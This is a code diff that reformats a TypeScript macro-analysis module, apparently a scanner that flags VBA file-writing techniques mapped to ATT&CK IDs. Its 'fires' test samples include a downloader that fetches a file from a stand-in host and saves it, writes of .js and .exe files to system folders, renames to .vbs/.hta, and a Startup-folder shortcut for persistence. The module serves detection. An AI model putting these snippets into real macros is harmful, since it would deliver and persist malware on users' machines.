@@ -18,7 +18,9 @@ function strengthOfTarget(path: string, _: MacroCall, around: Surroundings): Str
 }
 
 const onlyWrites = ({ arguments: values }: MacroCall): readonly (Value | undefined)[] =>
-  values[1]?.kind === 'text' && /^(?:output|append|binary|random)/.test(values[1].text.toLowerCase()) ? [values[0]] : [];
+  values[1]?.kind === 'text' && /^(?:output|append|binary|random)/.test(values[1].text.toLowerCase())
+    ? [values[0]]
+    : [];
 
 export const writing: readonly Technique[] = [
   {
@@ -52,14 +54,19 @@ export const writing: readonly Technique[] = [
     fires: [
       'Set h = CreateObject("Microsoft.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nh.Send\nWith CreateObject("ADODB.Stream")\n.Write h.responseBody\n.SaveToFile target, 2\nEnd With',
     ],
-    silent: ['Set s = CreateObject("ADODB.Stream")\ns.WriteText Range("A1").Value\ns.SaveToFile ThisWorkbook.Path & "\\list.csv", 2'],
+    silent: [
+      'Set s = CreateObject("ADODB.Stream")\ns.WriteText Range("A1").Value\ns.SaveToFile ThisWorkbook.Path & "\\list.csv", 2',
+    ],
   },
   {
     id: 'written-text',
     does: 'writes',
     calls: ['createtextfile', 'opentextfile'],
     on: ['', 'scripting.filesystemobject', /folder/],
-    matters: (call) => (call.name === 'opentextfile' && isRead(call.arguments[1] ?? call.named.get('iomode')) ? [] : argument(0, 'filename')(call)),
+    matters: (call) =>
+      call.name === 'opentextfile' && isRead(call.arguments[1] ?? call.named.get('iomode'))
+        ? []
+        : argument(0, 'filename')(call),
     strength: strengthOfTarget,
     attack: ['T1059.005'],
     fires: ['CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\\Users\\Public\\notreal.js").Write x'],
@@ -73,11 +80,16 @@ export const writing: readonly Technique[] = [
     does: 'writes',
     calls: ['copyfile', 'movefile', 'filecopy', 'copy', 'move'],
     on: ['alone', '', 'scripting.filesystemobject', /^scripting\.filesystemobject\/getfile$/],
-    matters: ({ name, arguments: values, named }) => [name === 'copy' || name === 'move' ? values[0] : (values[1] ?? named.get('destination'))],
+    matters: ({ name, arguments: values, named }) => [
+      name === 'copy' || name === 'move' ? values[0] : (values[1] ?? named.get('destination')),
+    ],
     strength: strengthOfTarget,
     attack: ['T1036'],
     fires: ['FileCopy "C:\\nowhere\\a.txt", "C:\\ProgramData\\notreal.exe"'],
-    silent: ['FileCopy ThisWorkbook.Path & "\\tool.xlam", Application.UserLibraryPath & "\\tool.xlam"', 'FileCopy "a.xlsx", "\\\\server\\bak\\a.xlsx"'],
+    silent: [
+      'FileCopy ThisWorkbook.Path & "\\tool.xlam", Application.UserLibraryPath & "\\tool.xlam"',
+      'FileCopy "a.xlsx", "\\\\server\\bak\\a.xlsx"',
+    ],
   },
   {
     id: 'renamed-file',
@@ -88,7 +100,10 @@ export const writing: readonly Technique[] = [
     matters: ({ arguments: values }) => [values[1]],
     strength: strengthOfTarget,
     attack: ['T1036'],
-    fires: ['Name "C:\\ProgramData\\a.txt" As "C:\\ProgramData\\a." & "v" & "bs"', 'If 1 Then Name "C:\\a.txt" As "C:\\nowhere\\a.hta"'],
+    fires: [
+      'Name "C:\\ProgramData\\a.txt" As "C:\\ProgramData\\a." & "v" & "bs"',
+      'If 1 Then Name "C:\\a.txt" As "C:\\nowhere\\a.hta"',
+    ],
     silent: ['Name "C:\\Data\\a.txt" As "C:\\Data\\a.bak"'],
   },
   {
@@ -116,8 +131,12 @@ export const writing: readonly Technique[] = [
     matters: argument(0, 'pathlink'),
     strength: (path) => (isInStartup(path) ? 1 : 0),
     attack: ['T1547.009'],
-    fires: ['CreateObject("WScript.Shell").CreateShortcut(CreateObject("WScript.Shell").SpecialFolders("Startup") & "\\a.lnk").Save'],
-    silent: ['CreateObject("WScript.Shell").CreateShortcut(CreateObject("WScript.Shell").SpecialFolders("Desktop") & "\\list.lnk").Save'],
+    fires: [
+      'CreateObject("WScript.Shell").CreateShortcut(CreateObject("WScript.Shell").SpecialFolders("Startup") & "\\a.lnk").Save',
+    ],
+    silent: [
+      'CreateObject("WScript.Shell").CreateShortcut(CreateObject("WScript.Shell").SpecialFolders("Desktop") & "\\list.lnk").Save',
+    ],
   },
 ];
 
